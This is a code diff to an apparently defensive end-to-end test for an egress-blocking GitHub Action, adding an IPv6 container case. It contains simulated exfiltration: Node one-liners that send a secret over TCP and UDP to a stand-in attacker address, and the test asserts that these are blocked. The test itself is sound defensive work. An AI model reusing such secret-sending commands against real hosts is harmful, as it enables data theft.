@@ -100,6 +100,8 @@ const COLLECTOR_TOKEN = 'e2e-collector-token';
 const TAKEOVER_MARK = '/run/egress-guard-takeover';
 /** A Docker network the job creates after main: a new br-* bridge (documentation addresses, not Docker's pools). */
 const LATER_NETWORK = '203.0.113.160/27';
+/** A Docker network with IPv6 the job creates (`docker network create --ipv6`): global documentation addresses. */
+const IPV6_NETWORK = { v4: '203.0.113.192/27', v6: '2001:db8:d0::/64' };
 /** Where the screenshot of the rendered summary goes (test-artifacts/ at the checkout, as the collector page's). */
 const ARTIFACTS = fileURLToPath(new URL('../../../test-artifacts', import.meta.url));
 
@@ -241,6 +243,37 @@ describe('GitHub Action on a simulated GitHub-hosted runner', { timeout: 600_000
       const network = await docker(['network', 'create', '--subnet', LATER_NETWORK, 'egact-later']);
       assert.equal(network.code, 0, network.stderr);
       assertAttacksRefused(await jobSteps(inContainer('egact-later'), world), 'docker run on a network created after main');
+      // Docker's own IPv6 network (`docker network create --ipv6`, global documentation addresses; the engine runs
+      // with --ip6tables=false, as Docker before 27 did by default): the container's IPv6 goes through the rules too.
+      const v6 = await docker(['network', 'create', '--ipv6', '--subnet', IPV6_NETWORK.v4, '--subnet', IPV6_NETWORK.v6, 'egact-v6']);
+      assert.equal(v6.code, 0, v6.stderr);
+      const inV6 = inContainer('egact-v6');
+      const allowed6 = await inV6('curl', [
+        '-6',
+        '-sS',
+        '--max-time',
+        '20',
+        '--retry',
+        '8',
+        '--retry-delay',
+        '1',
+        '--retry-all-errors',
+        '--cacert',
+        world.caFile,
+        'https://allowed.test/',
+      ]);
+      assert.match(allowed6.stdout, /hello from allowed\.test/, `IPv6 container: ${allowed6.stderr}`);
+      const raw6 = await inV6(process.execPath, [
+        '-e',
+        `const s = require('node:net').connect(9419, '${NET.attacker6}'); s.on('error', () => {}); s.end('${SECRET}'); setTimeout(() => process.exit(0), 3000);`,
+      ]);
+      const udp6 = await inV6(process.execPath, [
+        '-e',
+        `const s = require('dgram').createSocket('udp6'); s.send('${SECRET}', 9999, '${NET.attacker6}', () => setTimeout(() => s.close(), 300));`,
+      ]);
+      assert.equal(udp6.code, 0, udp6.stderr);
+      // Judged by the internet side's log (leaked, below) and the event, not by how the client saw its end.
+      void raw6;
       const build = (url: string) => {
         const context = path.join(job.dir, `build-${url.length}`);
         mkdirSync(context, { recursive: true });
@@ -260,6 +293,13 @@ describe('GitHub Action on a simulated GitHub-hosted runner', { timeout: 600_000
         assert.match(eventLines, new RegExp(`"client":"${prefix}\\d+:\\d+","host":"allowed\\.test"[^\\n]*"decision":"allowed"`), `no allowed event from ${what}`);
       }
       assert.doesNotMatch(eventLines, new RegExp(`"host":"${escapeRegExp(serviceAddress)}"`), 'the connection between containers went through egress-guard');
+      const v6Client = escapeRegExp(`"client":"[${IPV6_NETWORK.v6.replace(/::\/64$/, '::')}`);
+      assert.match(eventLines, new RegExp(`${v6Client}[0-9a-f:]*\\]:\\d+","host":"allowed\\.test"[^\\n]*"decision":"allowed"`), 'no allowed event from the IPv6 network');
+      assert.match(
+        eventLines,
+        new RegExp(`${v6Client}[0-9a-f:]*\\]:\\d+","host":"${escapeRegExp(NET.attacker6)}","port":9419[^\\n]*"decision":"blocked"`),
+        'no blocked event for the raw IPv6 connect',
+      );
       const seen = internetSince(world, since);
       assert.deepEqual(leaked(seen), [], 'something of the attack reached the internet');
       assert.ok(
@@ -277,6 +317,7 @@ describe('GitHub Action on a simulated GitHub-hosted runner', { timeout: 600_000
       assert.match(post.stdout, annotation('error', 'blocked', `${escapeRegExp(NET.rawOnly)}:443`));
       assert.match(post.stdout, annotation('error', 'blocked', `${SECRET.toLowerCase()}\\.exfil\\.attacker\\.test:53`));
       assert.match(post.stdout, annotation('error', 'blocked', `${escapeRegExp(NET.attacker)}:9999`), 'no event for the UDP datagram (the built-in NFLOG reader)');
+      assert.match(post.stdout, annotation('error', 'blocked', `\\[${escapeRegExp(NET.attacker6)}\\]:9999`), "no event for the IPv6 container's datagram");
       assert.doesNotMatch(post.stdout, /^::(error|warning) title=egress-guard [a-z-]+%3A allowed\.test/m);
       assert.doesNotMatch(post.stdout, /exited during the job/, 'egress-guard ran to the end');
       const blockedCount = Number(outputs(job).get('blocked-count'));
